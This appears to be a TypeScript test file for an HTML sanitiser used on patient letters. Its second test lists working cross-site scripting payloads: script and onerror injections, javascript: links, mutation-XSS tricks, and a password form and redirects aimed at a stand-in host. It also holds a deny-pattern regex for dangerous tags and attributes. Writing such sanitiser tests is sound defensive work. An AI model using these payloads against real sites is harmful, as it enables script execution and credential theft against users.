import assert from 'node:assert/strict';
import { it } from 'node:test';
import fc from 'fast-check';
import { safeHtml } from './safe-html.ts';

it('keeps what a letter says', () => {
  const letter =
    '<p>Dear <strong>Nia</strong>,</p><ul><li>rest</li></ul><table><tr><th scope="row">BP</th><td>120/80</td></tr></table>';
  assert.equal(safeHtml(letter), letter);
  assert.equal(safeHtml('<h1>Clinic</h1><h2>Plan</h2>'), '<h2>Clinic</h2><h3>Plan</h3>');
  assert.equal(safeHtml('a < b &amp; c'), 'a &lt; b &amp; c');
});

it('lets nothing run, load or send', () => {
  const attacks = [
    '<script>alert(1)</script>x',
    '<img src=x onerror=alert(1)>x',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
    '<iframe src="https://evil.example"></iframe>x',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>1</script>">x</a>',
    '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    '<style>*{display:none}</style>x',
    '<base href="https://evil.example">x',
    '<meta http-equiv=refresh content="0;url=https://evil.example">x',
    '<link rel=stylesheet href="https://evil.example">x',
    '<p onclick=alert(1) id=maincontent class=nhsuk-header name=_csrf>x</p>',
    '<object data="https://evil.example"></object><embed src=y>x',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x',
    '<!--><img src=x onerror=alert(1)>-->x',
    '<p>x</p><template><img src=x onerror=1></template>',
    '<video src="https://evil.example"></video><audio src=y></audio>x',
  ];
  for (const attack of attacks) {
    const safe = safeHtml(attack);
    const tags = safe.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      assert.doesNotMatch(
        tag,
        /<\/?(script|img|svg|iframe|form|input|button|style|base|meta|link|object|embed|video|audio|math|template)/i,
        attack,
      );
      assert.doesNotMatch(tag, /\son\w+|style=|class=|id=|name=|src=|javascript:|data:/i, attack);
    }
  }
});

it('leads nowhere within this service, and out of it without a trace', () => {
  assert.equal(safeHtml('<a href="/my/account/close">close</a>'), '<span>close</span>');
  assert.equal(safeHtml('<a href="//evil.example">x</a>'), '<span>x</span>');
  assert.equal(
    safeHtml('<a href="https://www.nhs.uk" target="_blank" ping="https://evil.example">NHS</a>'),
    '<a href="https://www.nhs.uk" rel="noopener noreferrer nofollow external">NHS</a>',
  );
});

it('says what a picture would have shown', () => {
  assert.equal(
    safeHtml('<img src="https://x.example/a.png" alt="A map & more">'),
    '<span>A map &amp; more</span>',
  );
});

it('reads what stood around an element that is left out as a browser will', () => {
  assert.equal(safeHtml('<li><x<p><li>'), '<li></li><li></li>');
  assert.equal(safeHtml('<h1>a</h1><h5>b</h5><h6>c</h6>'), '<h2>a</h2><h6>b</h6><h6>c</h6>');
});

it('makes the same of what it has made already, and balances every element', () => {
  const pieces = fc.constantFrom(
    '<p>',
    '</p>',
    '<b>',
    '</b>',
    '<table>',
    '<td>',
    '<a href="https://a.example">',
    '</a>',
    '<script>',
    'x',
    '&lt;',
    '<',
    '>',
    '"',
    '<!--',
    '-->',
    '</div>',
    '<li>',
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
      const safe = safeHtml(parts.join(''));
      const open = (safe.match(/<[a-z]/g) ?? []).length - (safe.match(/<(br|hr)/g) ?? []).length;
      assert.equal(open, (safe.match(/<\//g) ?? []).length, safe);
      assert.equal(safeHtml(safe), safe);
    }),
    { numRuns: 300 },
  );
});
